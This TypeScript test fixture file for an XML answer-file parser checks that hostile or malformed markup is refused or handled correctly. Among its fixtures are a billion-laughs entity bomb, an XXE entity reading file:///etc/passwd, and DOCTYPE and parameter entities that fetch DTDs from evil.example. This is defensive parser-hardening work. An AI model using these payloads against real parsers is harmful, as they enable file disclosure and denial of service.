// Hostile fixtures about markup: DOCTYPE and entities, character references, `]]>` and `--`, namespaces,
// line ends, the root element.

import { answerFile, CAF_NS, DECL, positionOf, utf8 } from './hostile-bytes.ts';
import { opens, refused, same, type HostileFixture } from './hostile-fixture-types.ts';
import { scriptFixture } from './hostile-fixtures-script.ts';

const ROOT = `<ImageCustomizations xmlns="${CAF_NS}" Name="Hostile" Description="d" Owner="Contoso" OwnerType="OEM">`;

function entityBomb(): string {
  const levels = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i < 10; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  return `${DECL}\n<!DOCTYPE ImageCustomizations [\n  ${levels.join('\n  ')}\n]>\n${ROOT}\n  <Static><Settings Path="&lol9;" /></Static>\n</ImageCustomizations>\n`;
}
const DOCTYPE_AT = { line: 2 };

/** A refusal at the first `needle` of `text`, the column within `slack` characters after it. */
function at(text: string, needle: string, slack = needle.length) {
  const p = positionOf(text, needle);
  return { line: p.line, column: [p.column, p.column + slack] as const };
}

const commentOf = (text: string) => answerFile({ before: `\n  <!--${text}-->` });
const firstComment = (expected: string) =>
  opens((doc) => {
    const c = doc.static?.before?.find((t) => t.kind === 'comment');
    return same('the comment', c?.kind === 'comment' ? c.text : undefined, expected);
  });

const badText = {
  charRef1: answerFile({ description: 'a&#1;b' }),
  charRef0: answerFile({ before: '\n  <Note>x&#0;y</Note>' }),
  charRefFffe: answerFile({ settingAttrs: ' Extra="&#xFFFE;"' }),
  rawControl: answerFile({ description: 'a\u0001b' }),
  cdataEnd: answerFile({ before: '\n  <Note>a ]]> b</Note>' }),
  dashes: commentOf(' a -- b '),
  dashEnd: commentOf(' a -'),
  undefinedEntity: answerFile({ description: '&xxe;' }),
  unboundElement: answerFile({ before: '\n  <y:Foo />' }),
  unboundAttribute: answerFile({ settingAttrs: ' y:a="1"' }),
  crlfError: answerFile({ eol: '\r\n', settingAttrs: ' Bad=1' }),
  crError: answerFile({ eol: '\r', settingAttrs: ' Bad=1' }),
};

const unknownNamespaces = answerFile({
  rootAttrs: ' xmlns:x="urn:x" x:note="root note"',
  before: '\n  <x:Meta x:id="1"><x:Inner>text</x:Inner></x:Meta>\n  <Other xmlns="urn:other"><Deep a="1" /></Other>',
  settingAttrs: ' x:why="because"',
});

export const markupFixtures: readonly HostileFixture[] = [
  {
    name: 'entity-bomb',
    about: 'a billion laughs: ten levels of internal entities, each ten times the one below',
    bytes: () => utf8(entityBomb()),
    expect: refused('doctype', { at: DOCTYPE_AT, says: /DOCTYPE/ }),
    nasty: true,
  },
  {
    name: 'external-entity',
    about: 'an external entity naming file:///etc/passwd, used in a value',
    bytes: () =>
      utf8(`${DECL}\n<!DOCTYPE ImageCustomizations [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n${ROOT}<Static><Settings Path="&xxe;" /></Static></ImageCustomizations>\n`),
    expect: refused('doctype', { at: DOCTYPE_AT, says: /DOCTYPE/ }),
  },
  {
    name: 'external-dtd',
    about: 'a DOCTYPE naming an external DTD on another site',
    bytes: () => utf8(`${DECL}\n<!DOCTYPE ImageCustomizations SYSTEM "http://evil.example/caf.dtd">\n${ROOT}</ImageCustomizations>\n`),
    expect: refused('doctype', { at: DOCTYPE_AT, says: /DOCTYPE/ }),
  },
  {
    name: 'parameter-entity',
    about: 'an external parameter entity referenced inside the DOCTYPE',
    bytes: () => utf8(`${DECL}\n<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>\n${ROOT}</ImageCustomizations>\n`),
    expect: refused('doctype', { at: DOCTYPE_AT, says: /DOCTYPE/ }),
  },
  {
    name: 'undefined-entity',
    about: 'an entity reference (&xxe;) with no DOCTYPE',
    bytes: () => utf8(badText.undefinedEntity),
    expect: refused('not-well-formed', { at: at(badText.undefinedEntity, '&xxe;') }),
  },
  {
    name: 'char-ref-1-in-attribute',
    about: 'a control character as a character reference (&#1;) in an attribute',
    bytes: () => utf8(badText.charRef1),
    expect: refused('not-well-formed', { at: at(badText.charRef1, '&#1;') }),
  },
  {
    name: 'char-ref-0-in-text',
    about: 'NUL as a character reference (&#0;) in text',
    bytes: () => utf8(badText.charRef0),
    expect: refused('not-well-formed', { at: at(badText.charRef0, '&#0;') }),
  },
  {
    name: 'char-ref-fffe',
    about: 'U+FFFE (not a character) as a reference',
    bytes: () => utf8(badText.charRefFffe),
    expect: refused('not-well-formed', { at: at(badText.charRefFffe, '&#xFFFE;') }),
  },
  {
    name: 'raw-control-character',
    about: 'a raw U+0001 in an attribute value',
    bytes: () => utf8(badText.rawControl),
    expect: refused(['not-well-formed', 'invalid-bytes'], { at: at(badText.rawControl, '\u0001') }),
  },
  {
    name: 'cdata-end-in-text',
    about: '`]]>` in text content',
    bytes: () => utf8(badText.cdataEnd),
    expect: refused('not-well-formed', { at: at(badText.cdataEnd, ']]>') }),
  },
  {
    name: 'cdata-end-and-dashes-in-attribute',
    about: '`]]>` and `--` in attribute values',
    bytes: () => utf8(answerFile({ description: 'a ]]> b -- c', settingAttrs: ' Extra="--&gt;]]&gt;"' })),
    expect: opens((doc) => same('Description', doc.description, 'a ]]> b -- c')),
  },
  {
    name: 'cdata-end-in-comment',
    about: '`]]>` inside a comment',
    bytes: () => utf8(commentOf(' a ]]> b ')),
    expect: firstComment(' a ]]> b '),
  },
  {
    name: 'dashes-in-comment',
    about: '`--` inside a comment',
    bytes: () => utf8(badText.dashes),
    expect: refused('not-well-formed', { at: { line: 3 } }),
  },
  {
    name: 'comment-ending-in-dash',
    about: 'a comment ending `--->`',
    bytes: () => utf8(badText.dashEnd),
    expect: refused('not-well-formed', { at: { line: 3 } }),
  },
  {
    name: 'dashes-in-processing-instruction',
    about: '`--` and `]]>` in a processing instruction',
    bytes: () => utf8(answerFile({ before: '\n  <?note a -- b ]]> c?>' })),
    expect: opens((doc) => {
      const pi = doc.static?.before?.find((t) => t.kind === 'pi');
      return same('PI data', pi?.kind === 'pi' ? pi.data : undefined, 'a -- b ]]> c');
    }),
  },
  {
    name: 'unknown-namespaces',
    about: 'elements and attributes in unknown namespaces, with a prefix and as a default namespace',
    bytes: () => utf8(unknownNamespaces),
    expect: opens((doc) => {
      const names = (doc.static?.before ?? []).map((t) => (t.kind === 'element' ? t.name : t.kind));
      return same('kept elements', names.join(','), 'x:Meta,Other') ?? same('root extras', doc.extraAttrs?.map((a) => `${a.name}=${a.value}`).join(' '), 'xmlns:x=urn:x x:note=root note');
    }),
  },
  {
    name: 'unbound-element-prefix',
    about: 'an element whose prefix is not declared',
    bytes: () => utf8(badText.unboundElement),
    expect: refused('not-well-formed', { at: { line: 3 } }),
  },
  {
    name: 'unbound-attribute-prefix',
    about: 'an attribute whose prefix is not declared',
    bytes: () => utf8(badText.unboundAttribute),
    expect: refused('not-well-formed', { at: { line: 5 } }),
  },
  scriptFixture,
  {
    name: 'crlf',
    about: 'CRLF line ends, a comment spanning two lines',
    bytes: () => utf8(answerFile({ eol: '\r\n', before: '\r\n  <!--one\r\ntwo-->' })),
    expect: firstComment('one\ntwo'),
  },
  {
    name: 'lone-cr',
    about: 'lone CR line ends (classic Mac), a comment spanning two lines',
    bytes: () => utf8(answerFile({ eol: '\r', before: '\r  <!--one\rtwo-->' })),
    expect: firstComment('one\ntwo'),
  },
  {
    name: 'crlf-error-position',
    about: 'CRLF line ends and an unquoted attribute on line 5',
    bytes: () => utf8(badText.crlfError),
    expect: refused('not-well-formed', { at: { line: 5 }, quote: '<Setting Name="Enable"' }),
  },
  {
    name: 'lone-cr-error-position',
    about: 'lone CR line ends and an unquoted attribute on line 5',
    bytes: () => utf8(badText.crError),
    expect: refused('not-well-formed', { at: { line: 5 }, quote: '<Setting Name="Enable"' }),
  },
  {
    name: 'root-wrong-namespace',
    about: '<ImageCustomizations> in another namespace',
    bytes: () => utf8(answerFile().replace(CAF_NS, 'urn:wrong')),
    expect: refused('wrong-namespace', { at: { line: 2 }, says: /namespace/ }),
  },
  {
    name: 'root-no-namespace',
    about: '<ImageCustomizations> in no namespace',
    bytes: () => utf8(answerFile().replace(` xmlns="${CAF_NS}"`, '')),
    expect: refused('wrong-namespace', { at: { line: 2 }, says: /namespace/ }),
  },
];
